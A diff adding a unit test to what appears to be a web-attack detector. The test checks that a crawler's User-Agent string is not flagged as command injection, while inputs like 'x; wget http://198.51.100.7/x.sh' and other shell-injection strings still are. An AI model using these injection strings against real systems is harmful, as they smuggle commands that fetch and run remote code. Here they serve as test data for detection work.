@@ -1403,3 +1403,18 @@ Test(webstruct, a_version_after_a_blank_is_no_path)
     cr_assert_str_eq(families_of("x; tail /srv/app/notes", FK_WS_PARAM), "rce");
     cr_assert_str_eq(families_of("x; ls /tmp", FK_WS_PARAM), "rce");
 }
+
+/* In a header, a command's name that is also a word, given a web address, is a
+ * crawler's comment (SecLists' User-Agent fuzz list); a URL after a command that is no
+ * word, or any shell syntax, still counts. */
+Test(webstruct, a_crawlers_home_page_after_a_word_is_no_argument)
+{
+    cr_assert_str_eq(
+        families_of("mozilla/4.0 (compatible; msie 5.0; windows me; link checker 2.x.xx "
+                    "http://www.kyosoft.com)",
+                    FK_WS_HEADER),
+        "");
+    cr_assert_str_neq(families_of("x; wget http://198.51.100.7/x.sh", FK_WS_HEADER), "");
+    cr_assert_str_neq(families_of("x; echo http://a.example > /tmp/a", FK_WS_HEADER), "");
+    cr_assert_str_eq(families_of("x; link checker http://a.example/x", FK_WS_PARAM), "rce");
+}
